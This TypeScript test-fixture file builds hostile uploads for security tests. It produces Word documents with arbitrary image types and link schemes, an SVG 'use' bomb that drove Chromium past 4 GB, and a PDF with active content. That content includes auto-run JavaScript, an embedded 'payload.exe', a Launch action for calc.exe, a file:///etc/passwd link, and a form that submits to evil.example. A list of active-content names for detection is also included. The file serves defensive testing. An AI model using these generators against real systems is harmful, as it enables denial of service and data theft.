/**
 * Uploads carrying active or heavy content for the tests of issue 26, findings 4 and 10, made
 * here from bytes: Word documents showing images of any type and links of any scheme, an SVG that
 * makes Chromium's renderer allocate gigabytes, and a PDF with every kind of active content a
 * reader may run (scripts, a form, an embedded file, launch and script links).
 */
import JSZip from 'jszip';
import { PDFDocument, PDFName, PDFString, StandardFonts, type PDFDict } from 'pdf-lib';
import { RELS } from './conversion-fixtures.ts';

const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** An image a Word document shows: its part name under `word/` and its bytes. */
export interface DocxImage {
  readonly part: string;
  readonly bytes: Uint8Array | string;
}

const drawing = (id: string) =>
  `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="952500" cy="952500"/><wp:docPr id="1" name="Picture" descr="picture ${id}"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:embed="${id}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
const hyperlink = (id: string, text: string) =>
  `<w:p><w:hyperlink r:id="${id}"><w:r><w:t>${text}</w:t></w:r></w:hyperlink></w:p>`;
const escapeXml = (text: string) =>
  text.replace(/[&<>"]/g, (c) => `&#${c.charCodeAt(0)};`).replace(/\t/g, '&#9;');

/**
 * A Word document showing `images` (in order, each under its own relationship; the package
 * declares types for every extension, as Word does) and a paragraph per link, the link's text
 * being `link n`.
 */
export async function makeDocxWith(
  images: readonly DocxImage[],
  links: readonly string[] = [],
): Promise<Buffer> {
  const zip = new JSZip();
  zip.file(
    '[Content_Types].xml',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Default Extension="png" ContentType="image/png"/>
<Default Extension="jpeg" ContentType="image/jpeg"/>
<Default Extension="gif" ContentType="image/gif"/>
<Default Extension="svg" ContentType="image/svg+xml"/>
<Default Extension="emf" ContentType="image/x-emf"/>
<Default Extension="wmf" ContentType="image/x-wmf"/>
<Default Extension="tiff" ContentType="image/tiff"/>
<Default Extension="webp" ContentType="image/webp"/>
<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
</Types>`,
  );
  zip.file('_rels/.rels', RELS);
  const relationships = [
    ...images.map(
      (image, i) =>
        `<Relationship Id="img${i}" Type="${R}/image" Target="${escapeXml(image.part)}"/>`,
    ),
    ...links.map(
      (href, i) =>
        `<Relationship Id="link${i}" Type="${R}/hyperlink" Target="${escapeXml(href)}" TargetMode="External"/>`,
    ),
  ];
  zip.file(
    'word/_rels/document.xml.rels',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships.join('')}</Relationships>`,
  );
  zip.file(
    'word/document.xml',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${R}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">
<w:body><w:p><w:r><w:t>My personal statement.</w:t></w:r></w:p>${images.map((_, i) => drawing(`img${i}`)).join('')}${links.map((_, i) => hyperlink(`link${i}`, `link ${i}`)).join('')}</w:body></w:document>`,
  );
  // Stored, not deflated again: a flat PNG deflated twice passes the archive's ratio limit.
  for (const image of images) zip.file(`word/${image.part}`, image.bytes, { compression: 'STORE' });
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}

/**
 * An SVG of `levels` levels of groups each using the level below ten times (10^levels
 * rectangles from about 300 bytes a level): 2 KB at 7 levels, which took Chromium's renderer
 * past 4 GB in 30 s before it was stopped.
 */
export function makeSvgUseBomb(levels = 7): string {
  let defs = '<rect id="a0" width="1" height="1"/>';
  for (let level = 1; level <= levels; level++) {
    const uses = Array.from({ length: 10 }, (_, x) => `<use href="#a${level - 1}" x="${x}"/>`);
    defs += `<g id="a${level}">${uses.join('')}</g>`;
  }
  return `<svg xmlns="http://www.w3.org/2000/svg" width="1000" height="1000"><defs>${defs}</defs><use href="#a${levels}"/></svg>`;
}

/** What {@link makeActivePdf} holds, spelled as in the file (found in its bytes). */
export const ACTIVE_CONTENT_NAMES = [
  '/JavaScript',
  '/JS',
  '/Launch',
  '/EmbeddedFile',
  '/AcroForm',
  '/OpenAction',
  '/AA',
  '/SubmitForm',
  '/FileAttachment',
] as const;

/**
 * A one-page PDF with text and every kind of active content: document JavaScript run when it
 * opens (`/OpenAction`, `/Names /JavaScript`), an embedded file, a form field whose widget runs a
 * script and submits the form, a page script (`/AA`), links that launch a program, run a script
 * or open a `file:` URL, a file attachment annotation — and one ordinary https link.
 */
export async function makeActivePdf(): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([400, 300]);
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  page.drawText('Transcript of records', { x: 40, y: 250, size: 14, font });
  const ctx = pdf.context;
  const script = (js: string) => ctx.obj({ S: 'JavaScript', JS: PDFString.of(js) });
  const catalog = pdf.catalog;
  catalog.set(PDFName.of('OpenAction'), ctx.register(script('app.alert("opened")')));
  const embedded = ctx.register(ctx.flateStream('secret payload', { Type: 'EmbeddedFile' }));
  const fileSpec = ctx.register(
    ctx.obj({ Type: 'Filespec', F: PDFString.of('payload.exe'), EF: { F: embedded } }),
  );
  catalog.set(
    PDFName.of('Names'),
    ctx.obj({
      JavaScript: { Names: [PDFString.of('start'), ctx.register(script('app.alert("names")'))] },
      EmbeddedFiles: { Names: [PDFString.of('payload.exe'), fileSpec] },
    }),
  );
  const field = pdf.getForm().createTextField('name');
  field.setText('Ada');
  field.addToPage(page, { x: 40, y: 200, width: 200, height: 20 });
  const widget = field.acroField.getWidgets()[0]!.dict;
  widget.set(PDFName.of('AA'), ctx.obj({ Fo: script('app.alert("focus")') }));
  widget.set(
    PDFName.of('A'),
    ctx.obj({ S: 'SubmitForm', F: PDFString.of('https://evil.example/collect') }),
  );
  page.node.set(PDFName.of('AA'), ctx.obj({ O: script('app.alert("page")') }));
  const link = (rect: number[], action: PDFDict) =>
    ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: rect, A: action }));
  const uri = (target: string) => ctx.obj({ S: 'URI', URI: PDFString.of(target) });
  const annotations = [
    link([40, 150, 200, 170], ctx.obj({ S: 'Launch', F: PDFString.of('calc.exe') })),
    link([40, 120, 200, 140], script('app.alert("link")')),
    link([40, 90, 200, 110], uri('file:///etc/passwd')),
    link([40, 60, 200, 80], uri('https://example.org/transcript')),
    ctx.register(
      ctx.obj({
        Type: 'Annot',
        Subtype: 'FileAttachment',
        Rect: [300, 250, 320, 270],
        FS: fileSpec,
      }),
    ),
  ];
  for (const annotation of annotations) page.node.addAnnot(annotation);
  return Buffer.from(await pdf.save({ useObjectStreams: false }));
}
